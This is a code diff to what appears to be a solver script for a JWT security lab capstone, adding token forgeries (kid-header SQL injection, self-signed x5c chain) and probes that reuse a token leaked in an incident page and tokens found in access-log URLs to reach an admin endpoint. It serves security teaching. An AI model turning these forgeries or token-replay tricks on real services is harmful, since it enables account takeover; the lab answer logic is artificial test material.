@@ -5,14 +5,18 @@ and claims only what worked: so it scores full marks on any seed, and claims not
 hardened build.
 """
 
+import re
+from urllib.parse import parse_qs, urlsplit
+
 import jwt
 from cryptography.hazmat.primitives import serialization
 from cryptography.hazmat.primitives.asymmetric import ec
 from jwt.algorithms import ECAlgorithm
 
 from labserver.capstone import Finding, Request
-from labserver.experiments.attacks import Attacker, crack_hs256, words
+from labserver.experiments.attacks import KID_SQL_INJECTION, Attacker, crack_hs256, words
 from labserver.forge import encode_unsigned, hs256_with_key_bytes, tamper
+from labserver.x5c import self_made_chain
 
 BEARER_ENDPOINTS = ("/api/profile", "/api/orders", "/api/admin/report")
 HEADER = {"typ": "at+jwt"}
@@ -56,6 +60,16 @@ def _alg_confusion(a, mine, claims):
     return hs256_with_key_bytes({**HEADER, "kid": rsa_jwk["kid"]}, claims, pem)
 
 
+def _kid_sql(a, mine, claims):
+    # the kid ends the key query's string and appends a SELECT of a secret of our choosing
+    return hs256_with_key_bytes({**HEADER, "kid": KID_SQL_INJECTION}, claims, b"known-secret")
+
+
+def _x5c(a, mine, claims):
+    leaf_key, chain = self_made_chain(claims["iat"])  # our own CA, valid around lab time
+    return jwt.encode(claims, leaf_key, algorithm="ES256", headers={**HEADER, "x5c": chain})
+
+
 #: The most permissive first: an endpoint that checks no signature takes every forgery.
 FORGERIES = (
     ("no-verify", _no_verify),
@@ -64,6 +78,8 @@ FORGERIES = (
     ("jku", _jku),
     ("kid-path", _kid_path),
     ("alg-confusion", _alg_confusion),
+    ("kid-sql", _kid_sql),
+    ("x5c", _x5c),
 )
 
 
@@ -122,7 +138,39 @@ def session_findings(a):
     return []
 
 
+def _refresh_token(a):
+    answer = a.client().post("/token", json={"username": "bob", "password": "builder"})
+    return answer.json()["refresh_token"]
+
+
+def refresh_findings(a):
+    """carol's expired token (the incident report quotes it) with a refresh token of bob's."""
+    leaked = re.search(r"eyJ[\w-]*\.[\w-]*\.[\w-]*", a.client().get("/pages/incident.txt").text)
+    if leaked is None:
+        return []
+
+    def redeem(refresh_token):
+        body = {"refresh_token": refresh_token, "access_token": leaked.group()}
+        return Request("POST", "/token/refresh", json=body)
+
+    probe = redeem(_refresh_token(a))
+    answer = a.client().post(probe.path, json=probe.json)
+    if answer.status_code == 200 and a.claims(answer.json()["access_token"])["sub"] == "carol":
+        return [Finding("/token/refresh", "unbound-refresh", redeem(_refresh_token(a)))]
+    return []
+
+
+def url_findings(a):
+    """A whole token of carol's in a URL of the access log, which the endpoint accepted."""
+    for line in reversed(a.client().get("/logs/access", params={"n": 200}).json()["lines"]):
+        method, url, status = line.split(" ")
+        stolen = parse_qs(urlsplit(url).query).get("access_token", [""])[0]
+        if status == "200" and stolen and _admin(a, "/api/admin/report", stolen):
+            return [Finding(urlsplit(url).path, "token-in-url", stolen)]
+    return []
+
+
 def findings(target):
     """Every flaw of ``target`` (lab.capstone) this probe could exploit, with its exploit."""
     a = Attacker(target)
-    return token_findings(a) + session_findings(a)
+    return token_findings(a) + refresh_findings(a) + url_findings(a) + session_findings(a)
